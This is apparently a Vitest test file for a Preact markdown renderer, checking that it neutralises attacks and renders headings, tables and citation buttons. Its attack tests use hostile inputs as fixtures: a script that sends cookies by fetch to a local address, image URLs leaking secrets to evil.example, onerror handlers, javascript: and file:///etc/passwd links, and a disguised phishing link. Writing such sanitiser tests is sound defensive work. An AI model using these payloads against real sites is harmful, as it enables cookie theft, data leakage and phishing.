// @vitest-environment happy-dom
import { cleanup, fireEvent, render } from '@testing-library/preact';
import { afterEach, describe, expect, it } from 'vitest';
import { renderMarkdown, type RenderOptions } from '../../lib/markdown/render';

afterEach(cleanup);

function show(md: string, options?: RenderOptions): HTMLElement {
  return render(renderMarkdown(md, options)).container as HTMLElement;
}

// Anything that would make the browser fetch a resource on its own.
function loaders(el: HTMLElement): Element[] {
  return [...el.querySelectorAll('img, image, picture, source, video, audio, iframe, object, embed, link, script, style, [src], [srcset], [background], [poster]')];
}

describe('renderMarkdown attacks', () => {
  it('a remote image never becomes an <img> and shows its full URL as text', () => {
    const url = 'http://127.0.0.1:9/leak?q=secret';
    const el = show(`Answer ![x](${url}) done`);
    expect(loaders(el)).toEqual([]);
    expect(el.textContent).toContain(`[image: x — ${url}]`);
  });

  it('a reference-style image is not loaded either', () => {
    const el = show('![logo][l]\n\n[l]: https://evil.example/p.png?d=SECRET');
    expect(loaders(el)).toEqual([]);
    expect(el.textContent).toContain('https://evil.example/p.png?d=SECRET');
  });

  it('raw HTML <img src=x onerror=...> is shown as text, not an element', () => {
    const el = show('Hi <img src=x onerror="alert(1)"> there\n\n<img src="http://127.0.0.1:9/x">\n');
    expect(loaders(el)).toEqual([]);
    expect(el.querySelector('[onerror]')).toBeNull();
    expect(el.textContent).toContain('<img src=x onerror="alert(1)">');
    expect(el.textContent).toContain('<img src="http://127.0.0.1:9/x">');
  });

  it('a <script> block is shown as text and never becomes a script element', () => {
    const el = show('<script>fetch("http://127.0.0.1:9/?c="+document.cookie)</script>\n\ntext');
    expect(el.querySelector('script')).toBeNull();
    expect(el.textContent).toContain('<script>fetch(');
  });

  it('a javascript: link is not live', () => {
    const el = show('[click me](javascript:alert(document.domain))');
    expect(el.querySelector('a')).toBeNull();
    expect(el.textContent).toContain('click me');
    expect(el.textContent).toContain('javascript:alert(document.domain)');
  });

  it.each(['data:text/html,<b>x</b>', 'chrome-extension://abc/options.html', '../settings.html', 'vbscript:x', 'file:///etc/passwd'])(
    'a %s link is not live',
    (url) => {
      const el = show(`[go](<${url}>)`);
      expect(el.querySelector('a')).toBeNull();
    },
  );

  it('a live link shows its full URL and opens in a new tab with rel noopener', () => {
    const url = 'https://example.com/a/very/long/path?with=query#frag';
    const el = show(`See [the docs](${url}).`);
    const a = el.querySelector('a')!;
    expect(a.getAttribute('href')).toBe(url);
    expect(a.getAttribute('target')).toBe('_blank');
    expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    expect(el.textContent).toContain(url);
  });

  it('a link whose text names another site still shows the real URL', () => {
    const el = show('[https://bank.example](https://evil.example/phish)');
    expect(el.textContent).toContain('(https://evil.example/phish)');
  });

  it('renders with no innerHTML-style attributes anywhere', () => {
    const el = show('<div onclick="x()" style="background:url(http://127.0.0.1:9/)">a</div>');
    expect(el.querySelector('[onclick]')).toBeNull();
    expect(el.querySelector('div[style]')).toBeNull();
  });
});

describe('renderMarkdown structure', () => {
  it('gives headings ids from their line when lineIds is on', () => {
    const el = show('---\ntitle: x\n---\n# Top\n\ntext\n\n## Carry-over\n', { lineIds: true });
    expect(el.querySelector('#L4')?.textContent).toBe('Top');
    expect(el.querySelector('#L8')?.textContent).toBe('Carry-over');
    expect(show('# Top').querySelector('[id]')).toBeNull();
  });

  it('renders code blocks and GFM tables', () => {
    const el = show('```ts\nconst a = "<b>";\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n');
    expect(el.querySelector('pre code.language-ts')?.textContent).toBe('const a = "<b>";');
    expect(el.querySelectorAll('table th')).toHaveLength(2);
    expect(el.querySelector('table td:last-child')?.getAttribute('style')).toContain('right');
  });

  it('turns citations into buttons that call onCitation', () => {
    const seen: string[][] = [];
    const el = show('Twenty days.\n\nSources:\n- pages/holidays.md § Carry-over\n- `pages/leave.md § Sick leave (paid)`', {
      onCitation: (file, heading) => seen.push([file, heading]),
    });
    const buttons = [...el.querySelectorAll('button.citation')];
    expect(buttons.map((b) => b.textContent)).toEqual(['pages/holidays.md § Carry-over', 'pages/leave.md § Sick leave']);
    fireEvent.click(buttons[0]!);
    fireEvent.click(buttons[1]!);
    expect(seen).toEqual([['pages/holidays.md', 'Carry-over'], ['pages/leave.md', 'Sick leave']]);
  });
});
